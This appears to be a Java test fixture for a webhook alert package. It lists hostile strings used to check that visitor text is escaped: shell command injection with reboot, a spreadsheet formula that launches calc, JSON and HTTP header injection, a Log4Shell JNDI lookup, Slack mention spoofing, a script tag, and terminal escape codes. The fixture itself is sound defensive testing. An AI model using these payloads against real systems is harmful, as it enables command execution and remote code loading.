package org.sundew.alert.webhook;

import java.util.List;

/** What visitors might say to whoever reads the posts. */
final class Hostile {
    static final List<String> CORPUS = List.of(
            "$(reboot)`reboot`;reboot|reboot&&reboot",
            "=cmd|'/C calc'!A0",
            "\"",
            "\\",
            "\\\"",
            "ends with \\",
            "\",\"admin\":true,\"x\":\"",
            "\"}]}",
            "a\r\nX-Injected: yes\r\n\r\n",
            "${event.id}${event}${message}",
            "${jndi:ldap://x.example/a}%d%s%n",
            "<!channel> <@U123> <http://evil.example|click me>",
            "&lt;!channel&gt;",
            "*bold* _it_ ~s~ `code` [a](http://evil.example)",
            "see https://evil.example/x",
            "<script>alert(1)</script>",
            "\u0000\u0001\u001b[2J\u001b]0;owned\u0007\u007f\u0085\u009b31m",
            "line\u2028para\u2029",
            "right\u202eleft\u200bzero\ufeff",
            "grüße, 日本語 🐟",
            " spaces ",
            "\t");

    private Hostile() {}
}
